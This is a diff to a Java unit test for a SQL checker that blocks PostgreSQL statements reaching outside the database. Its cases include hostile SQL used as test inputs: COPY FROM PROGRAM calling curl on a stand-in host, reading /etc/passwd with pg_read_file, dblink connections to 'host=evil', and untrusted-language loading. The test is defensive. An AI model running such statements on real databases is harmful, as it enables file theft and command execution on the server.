@@ -118,6 +118,59 @@ class SqlRefusalsTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "COPY t FROM PROGRAM 'curl evil'",
+                "ALTER SYSTEM SET archive_command = 'sh'",
+                "alter /* x */ system reset all",
+                "CREATE EXTENSION IF NOT EXISTS plpython3u",
+                "ALTER EXTENSION pgcrypto UPDATE",
+                "LOAD 'evil'",
+                "CREATE LANGUAGE plperlu",
+                "CREATE TRUSTED LANGUAGE plperl",
+                "SELECT pg_read_file('/etc/passwd')",
+                "SELECT pg_catalog . PG_READ_FILE ('/etc/passwd')",
+                "SELECT \"pg_read_file\"('/etc/passwd')",
+                "INSERT INTO t SELECT * FROM (SELECT (SELECT pg_ls_dir('.'))) AS x",
+                "SELECT lo_import('/etc/passwd')",
+                "SELECT lo_export(1, '/tmp/x')",
+                "SELECT * FROM dblink('host=evil', 'SELECT 1') AS x(a int)",
+                "SELECT dblink_connect('host=evil')",
+                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
+                "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$ SECURITY DEFINER",
+                "ALTER FUNCTION f() SECURITY DEFINER"
+            })
+    void whatReachesOutOfTheDatabaseIsRefusedInBothModesWithItsLine(String sql) {
+        for (Mode mode : Mode.values()) {
+            assertThat(problems("SELECT 1;\n" + sql + ";", mode))
+                    .describedAs(sql)
+                    .singleElement()
+                    .satisfies(problem -> assertThat(problem.line()).isEqualTo(2));
+        }
+    }
+
+    @Test
+    void whatReachesOutIsFoundHoweverDeepItStands() {
+        String deep = "SELECT " + "(".repeat(300) + "coalesce(1, 2, 3, 4), pg_read_file('x')" + ")".repeat(300);
+
+        assertThat(problems(deep, Mode.TRANSACTION)).hasSize(1);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "SELECT 'pg_read_file(1)', \"dblink\" FROM t -- pg_read_file('x')",
+                "COMMENT ON TABLE t IS 'see pg_read_file(x)'",
+                "SELECT dblink FROM t",
+                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = crm, pg_temp AS 'SELECT 1'",
+                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1' SET search_path TO crm SECURITY DEFINER",
+                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'"
+            })
+    void whatOnlyNamesSuchAThingMayRun(String sql) {
+        assertThat(problems(sql, Mode.TRANSACTION)).describedAs(sql).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
                 "SELECT 'a",
                 "SELECT E'a\\'",
                 "SELECT \"a",
